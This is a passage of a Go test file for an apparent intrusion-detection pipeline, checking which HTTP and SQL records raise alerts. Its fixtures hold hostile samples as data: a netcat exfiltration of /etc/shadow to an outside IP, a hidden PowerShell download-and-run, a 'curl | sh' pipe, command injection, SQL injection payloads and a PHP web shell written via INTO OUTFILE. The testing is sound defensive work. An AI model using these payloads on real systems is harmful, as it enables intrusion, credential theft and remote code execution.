		"query without a value":      exchange("GET", "/list?cat&more&type", "", ""),
		"kernel in a text":           exchange("GET", "/report", "", "", "answer: Linux web 6.1.0 #1 SMP x86_64 GNU/Linux\nhas been up for 3 days\nand is fine\n"),
		"two logins":                 exchange("POST", "/graphql", jsonType, `[{"query":"mutation{login(user:\"a\",pin:\"1200\"){token}}"},{"query":"mutation{login(user:\"a\",pin:\"1201\"){token}}"}]`),
		"file of a well-known place": exchange("GET", "/.well-known/security.php", "", ""),
		"batch of OData":             exchange("POST", "/sap/opu/odata/sap/PO_SRV/$batch", "multipart/mixed; boundary=batch_f8b1", "--batch_f8b1\r\nContent-Type: application/http\r\nContent-Transfer-Encoding: binary\r\n\r\nGET Orders(4711)?$select=Name HTTP/1.1\r\nAccept: application/json\r\n\r\n\r\n--batch_f8b1--\r\n"),
		"client of OpenResty":        exchange("GET", "/v1/data/authz", "", "", "User-Agent: kong/3.8.0 lua-resty-http/0.17"),
		"zones of PowerDNS":          exchange("PATCH", "/api/v1/servers/localhost/zones/apps.shop.internal.", jsonType, `{"rrsets":[{"name":"a.apps.shop.internal.","type":"A","changetype":"REPLACE","records":[{"content":"10.2.0.9"}]}]}`),
		"metrics that are pushed":    exchange("PUT", "/metrics/job/restic/instance/db02", "application/x-www-form-urlencoded", "# TYPE restic_last_success gauge\nrestic_last_success{repo=\"a\"} 1.7e9\n"),
		"log of a job":               exchange("PATCH", "/api/v4/jobs/3478883/trace", "text/plain", "$ trivy image $IMAGE\nCVE-2021-44228 org.apache.logging.log4j:log4j-core\n$ cat /etc/os-release | grep NAME\n"),
		"log of a request":           exchange("POST", "/_bulk", "application/x-ndjson", "{\"create\":{}}\n{\"url\":{\"original\":\"/a/../../../wp-config.php\"},\"http\":{\"request\":{\"body\":{\"content\":\"echo;cat /etc/shadow|nc 193.32.162.7 4444\"}}}}\n"),
		"observable of a case":       exchange("POST", "/api/v1/case/~8124799/observable", jsonType, `{"dataType":"other","data":["powershell -w hidden -c \"IEX(IWR http://185.220.101.4/a.ps1 -UseBasicParsing)\"","cmd.exe /c whoami & net group \"Domain Admins\" /domain"]}`),
		"issue with a report":        exchange("POST", "/rest/api/2/issue", jsonType, `{"fields":{"summary":"Ping","description":"{code}\ncurl 'https://tools.example/ping?host=127.0.0.1;cat%20/etc/passwd'\nroot:x:0:0:root:/root:/bin/bash\n{code}"}}`),
		"article of a wiki":          exchange("POST", "/w/index.php?title=Template:A&action=submit", "application/x-www-form-urlencoded", "wpTextbox1="+url.QueryEscape("{{7*7}} is {{#expr:7*7}}"), "redirect: https://wiki.shop.internal/wiki/Template:A"),
		"output of a probe":          exchange("POST", "/ecc_queue.do?JSONv2&sysparm_action=insert", jsonType, `{"topic":"SSHCommand","name":"uname -a; cat /etc/os-release; id -un","payload":"<results><output>Linux web07 5.14.0 #1 SMP</output></results>"}`),
		"message with a snippet":     exchange("POST", "/api/v4/posts", jsonType, `{"channel_id":"a","message":"seen again:\n`+"```"+`\ncurl -s http://193.32.162.7/x | sh\n`+"```"+`\n@here please add"}`),
		"code of an editor":          exchange("POST", "/lsp/python", jsonType, `{"jsonrpc":"2.0","method":"textDocument/didChange","params":{"contentChanges":[{"text":"import os\nos.system(f'ping {host}')\n"}]}}`),
		"place in a configuration":   exchange("POST", "/api/", "application/x-www-form-urlencoded", "type=config&action=get&xpath="+url.QueryEscape("/config/devices/entry[@name='localhost.localdomain']/network")),
		"log of a job, read":         exchange("GET", "/group/app/-/jobs/88123/trace.json?state=", "", "", "answer: $ id\nuid=0(root) gid=0(root) groups=0(root)\n"),
		"GraphQL":                    exchange("POST", "/graphql", jsonType, `{"query":"{ shop { __typename name } }"}`, `answer: {"data":{"shop":{"__typename":"Shop","name":"a"}}}`),
	} {
		t.Run(name, func(t *testing.T) {
			if got := alertsOf(t, p, record); len(got) != 0 {
				t.Errorf("alarms: %v", got)
			}
		})
	}
}

// rulesOf are the rules of the one alert of a record.
func rulesOf(t *testing.T, p *Pipeline, record map[string]string) (all []int) {
	t.Helper()
	got := alertsOf(t, p, record)
	if len(got) != 1 {
		t.Fatalf("%d alerts", len(got))
	}
	for _, r := range got[0]["rules"].([]any) {
		all = append(all, int(r.(map[string]any)["id"].(int64)))
	}
	return all
}

// alertsOf are the alerts of one record.
// A statement is SQL: it alarms by what it does.
func TestConfidenceOfStatements(t *testing.T) {
	p := confident(t, "rules=crs,lateral-movement,sensitive-data", "mapping=nano-sql")
	record := func(statement string) map[string]string {
		return map[string]string{
			"BEGIN_TIME": "2026-11-20 10:12:00.998", "SRC_IP": "10.0.1.5", "DST_IP": "10.0.1.9", "SRC_PORT": "40218", "DST_PORT": "3306",
			"SQL": statement, "ERR": "", "RET_CODE": "0", "USER": "shop", "L7_PROTOCOL": "mysql", "L4_PROTOCOL": "tcp",
		}
	}
	for _, statement := range []string{
		"SELECT version()",
		"SELECT @@version, @@hostname",
		"SELECT table_name FROM information_schema.tables WHERE table_schema = 'shop' ORDER BY 1",
		"SELECT id FROM lamps WHERE 1=1 AND (price > 7 OR name = 'x') UNION SELECT id FROM old_lamps -- all",
		"SELECT name FROM sys.configurations WHERE name = 'xp_cmdshell'",
		"INSERT INTO texts (t) VALUES ('EXEC master..xp_cmdshell, pg_sleep(10) or load_file(0x2f)')",
		"UPDATE texts SET t = 'where 1=1 and pg_sleep(10) union select user from mysql.user' WHERE id = 4",
		"SELECT user, host FROM mysql.user",
		"SELECT SLEEP(1)",
		"SELECT table_name FROM information_schema.tables UNION SELECT table_name FROM information_schema.views",
		"SELECT id FROM lamps WHERE name = 'x' OR price = 7 -- by shop's page",
	} {
		if all := alertsOf(t, p, record(statement)); len(all) > 0 {
			t.Errorf("%s: %v", statement, all[0]["summary"])
		}
	}
	for _, statement := range []string{
		"SELECT load_file('/etc/passwd')",
		"EXEC master..xp_cmdshell 'dir'",
		"EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE",
		"SELECT id FROM lamps WHERE id = '1' || pg_sleep(5)--'",
		"SELECT id FROM lamps WHERE id = 1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)",
		"SELECT id FROM lamps WHERE id = 1; SELECT pg_sleep(10)--",
		"SELECT id FROM lamps WHERE id = -1 UNION ALL SELECT LOAD_FILE(0x2f657463)",
		"SELECT name FROM lamps WHERE id = -1 UNION SELECT authentication_string FROM mysql.user",
		"SELECT name FROM lamps WHERE id = -1 UNION SELECT passwd FROM pg_shadow",
		"SELECT sys_exec('lamp')",
		"SELECT * FROM users WHERE name = 'admin'-- ' AND pw = 'x'",
		"SELECT * FROM users WHERE name = '' OR 1=1-- ' AND pw = 'x'",
		"SELECT '<?php system($_GET[1]);?>' INTO OUTFILE '/var/www/html/x.php'",
	} {
		if len(alertsOf(t, p, record(statement))) == 0 {
			t.Errorf("%s: no alert", statement)
		}
	}
}

func alertsOf(t *testing.T, p *Pipeline, record map[string]string) []map[string]any {
	t.Helper()
	text, err := json.Marshal(record)
	if err != nil {
		t.Fatal(err)
	}
	return read(t, p.Process("t", newEvent(1, jsonRecord(t, string(text)))))
}

// The model says nothing by fixed strings of what it was made from: other names of hosts, agents and parameters make no
// difference that decides.
func TestConfidenceOfOtherNames(t *testing.T) {
	p := confident(t, "rules=crs,lateral-movement,sensitive-data")
	for _, name := range []string{"p", "q", "search_term", "X", "filter"} {
		for _, agent := range []string{"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:105.0) Gecko/20100101 Firefox/105.0", "axios/1.7", "probe"} {
			record := exchange("GET", "/a?"+name+"=%27%20or%201%3D1%20--%20-", "", "")
			record["REQ_HEADER"] = strings.NewReplacer("okhttp/4.12.0", agent, "shop.internal", "h"+name).Replace(record["REQ_HEADER"])
			if got := alertsOf(t, p, record); len(got) != 1 {
				t.Errorf("parameter %s by %s: %d alerts", name, agent, len(got))
			}
		}
	}
}

// A rule of the user's alarms whatever the model says, and what is too little evidence is counted by rule.
func TestConfidenceAndOwnRules(t *testing.T) {
	own := filepath.Join(t.TempDir(), "own.conf")
	if err := os.WriteFile(own, []byte(`SecRule ARGS:q "@streq zebra" "id:1,phase:2,log,pass,msg:'zebra'"`), 0o600); err != nil {
		t.Fatal(err)
	}
	p := confident(t, "rules=crs,"+own)
	if got := alertsOf(t, p, exchange("GET", "/?q=zebra", "", "")); len(got) != 1 || got[0]["rule_id"] != "1" {
		t.Errorf("got %v", got)
	}
	p = confident(t, "min_confidence=100")
	if got := alertsOf(t, p, exchange("GET", "/?q=a%27%20or%20b%3Dc", "", "")); len(got) != 0 {
		t.Errorf("got %v", got)
	}
	if n := p.Snapshot().BelowConfidence; len(n) == 0 {
		t.Error("nothing is counted")
	}
}

// At a higher paranoia level ordinary requests, nearly all of which some rule matches, don't alarm, unless the score is what does;
// attacks do, and their alerts list what else has matched.
func TestConfidenceAtHigherLevels(t *testing.T) {
	ordinary := map[string]map[string]string{
		"cookies": exchange("GET", "/shop?sort=price%20(asc)&q=100%25%20wool%20%26%20silk", "", "", `Cookie: prefs={"lang":"en-GB","seen":[1,2,3]}; _ga=GA1.2.1830271.1700000000; consent=a:1|b:0|c:1`),
		"JSON":    exchange("POST", "/orders", jsonType, `{"items":[{"sku":"A-1/2","qty":2,"note":"blue; not green (please)"}],"name":"Zoë O'Neil","at":"2026-03-01T10:00:00+01:00"}`),
		"form":    exchange("POST", "/ask", "application/x-www-form-urlencoded", "subject=Order+%2312-77&text=Hello%2C+is+it+%2420+or+%2425%3F+%28I+forgot%21%29"),
		"token":   exchange("GET", "/api/items?page=2&filter[]=a&filter[]=b", "", "", "Authorization: Bearer q8s.1Zk-77_a", "X-Request-Id: 1f0c9a4e-7b1d-4d5c-9d1e-0a7b5f3c2e11"),
		"return":  exchange("GET", "/login?next=https%3A%2F%2Fshop.internal%2Fbasket%3Fid%3D7%23top", "", "", "Referer: https://shop.internal/a/b?c=d&e=f"),
	}
	attacks := map[string]map[string]string{
		"SQL":       exchange("GET", "/items?id=1%27%20or%20%271%27=%271%27%20--%20", "", ""),
		"script":    exchange("POST", "/c", jsonType, `{"text":"<script>alert(document.cookie)</script>"}`),
		"command":   exchange("POST", "/ping", "application/x-www-form-urlencoded", "host=127.0.0.1;cat+/etc/passwd"),
		"traversal": exchange("GET", "/get?file=../../../../etc/passwd", "", ""),
	}
	for _, level := range []string{"2", "3", "4"} {
		p, byScore := confident(t, "paranoia_level="+level), confident(t, "paranoia_level="+level, "alert_when=threshold")
		alarmsByScore := 0
		for name, record := range ordinary {
			if got := alertsOf(t, p, record); len(got) != 0 {
				t.Errorf("level %s: %s alarms: %v", level, name, got)
			}
			alarmsByScore += len(alertsOf(t, byScore, record))
		}
		if alarmsByScore == 0 {
			t.Errorf("level %s: nothing ordinary alarms by the score", level)
		}
		for name, record := range attacks {
			got := alertsOf(t, p, record)
			if len(got) != 1 || !strings.Contains(fmt.Sprint(got), "paranoia-level/"+level) && name == "SQL" {
				t.Errorf("level %s: %d alerts of %s: %v", level, len(got), name, got)
			}
		}
	}
}
